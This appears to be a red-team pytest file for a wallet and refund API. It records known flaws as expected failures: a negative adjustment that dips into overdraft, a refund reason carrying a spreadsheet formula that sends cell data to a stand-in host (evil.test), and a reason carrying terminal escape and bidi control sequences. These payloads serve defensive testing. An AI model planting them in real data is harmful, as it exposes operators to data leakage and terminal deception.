@@ -1,0 +1,90 @@
+"""Red-team (attack-spend): adjustments and refunds over HTTP, on both databases."""
+
+from __future__ import annotations
+
+import pytest
+from flask.testing import FlaskClient
+from sqlalchemy import create_engine, text
+
+from app.bootstrap import Container
+from app.services import refund_report
+from tests.http_fixtures import *  # noqa: F403
+from tests.http_fixtures import Tokens, bearer, table_counts
+
+
+@pytest.fixture
+def admin(tokens: Tokens) -> dict[str, str]:
+    return bearer(tokens.m2m("credits:admin"))
+
+
+def adjust(client: FlaskClient, headers: dict[str, str], body: dict[str, object],
+           wallet: str = "kp_alice") -> tuple[int, dict[str, object]]:
+    response = client.post(f"/v1/wallets/{wallet}/adjustments", json=body, headers=headers)
+    return response.status_code, response.json
+
+
+def _sql(db_url: str, statement: str, **params: object) -> None:
+    engine = create_engine(db_url)
+    try:
+        with engine.begin() as conn:
+            conn.execute(text(statement), params)
+    finally:
+        engine.dispose()
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "a negative adjustment debits like refusable usage, which may use the wallet's overdraft "
+    "limit: an operator's correction takes the balance below zero (arrears) instead of 402"))
+def test_negative_adjustment_never_takes_the_balance_below_zero_even_with_an_overdraft(
+        client: FlaskClient, admin: dict[str, str], db_url: str) -> None:
+    assert adjust(client, admin, {"credits": 100, "reason": "start"})[0] == 201
+    _sql(db_url, "UPDATE wallets SET overdraft_limit = 50 WHERE id = 'kp_alice'")
+    before = table_counts(db_url)
+    status, body = adjust(client, admin, {"credits": -140, "reason": "double-counted import"})
+    assert status == 402, body
+    assert table_counts(db_url) == before
+
+
+def _refund_with_reason(client: FlaskClient, admin: dict[str, str], reason: str) -> None:
+    sale = client.post("/v1/wallets/kp_alice/top-ups", json={"bundle": "starter"},
+                       headers=admin).json["entry"]["id"]
+    done = client.post(f"/v1/wallets/kp_alice/purchases/{sale}/refund",
+                       json={"reason": reason}, headers=admin)
+    assert done.status_code == 201, done.json
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "`report refunds --csv` writes the free-text reason raw: a reason starting with '=' is a "
+    "formula when the operator opens the CSV (the dashboard CSV quotes such text, OWASP)"))
+def test_refund_report_csv_does_not_hand_a_spreadsheet_a_formula(
+        client: FlaskClient, admin: dict[str, str], api_container: Container) -> None:
+    _refund_with_reason(client, admin, '=HYPERLINK("http://evil.test/?x="&A1,"open")')
+    csv_text = refund_report.as_csv(api_container.operations.refunds_report(None, None))
+    last = csv_text.strip().splitlines()[-1]
+    assert ",=HYPERLINK" not in last and ',"=HYPERLINK' not in last, last
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "the refund reason accepts terminal escapes and bidi controls, and `report refunds` "
+    "prints it raw (app.domain.text.escaped is not used): ESC sequences act on the "
+    "operator's terminal"))
+def test_refund_report_text_does_not_print_terminal_escapes(
+        client: FlaskClient, admin: dict[str, str], api_container: Container) -> None:
+    _refund_with_reason(client, admin, "ok\x1b[2J\x1b]8;;http://evil.test\x07click\u202e")
+    shown = refund_report.as_text(api_container.operations.refunds_report(None, None))
+    assert "\x1b" not in shown and "\u202e" not in shown, repr(shown)
+
+
+def test_refund_of_another_wallets_entry_is_404(client: FlaskClient, admin: dict[str, str],
+                                               tokens: Tokens) -> None:
+    sale = client.post("/v1/wallets/kp_bob/top-ups", json={"bundle": "starter"},
+                       headers=admin).json["entry"]["id"]
+    client.post("/v1/wallets/kp_alice/top-ups", json={"bundle": "starter"}, headers=admin)
+    wrong = client.post(f"/v1/wallets/kp_alice/purchases/{sale}/refund",
+                        json={"reason": "x"}, headers=admin)
+    assert wrong.status_code == 404
+    confined = bearer(tokens.m2m("credits:admin", org="org_acme"))
+    wrong = client.post(f"/v1/wallets/kp_bob/purchases/{sale}/refund",
+                        json={"reason": "x"}, headers=confined)
+    assert wrong.status_code == 404
+    assert client.get("/v1/wallets/kp_bob", headers=admin).json["balance"] == 5000
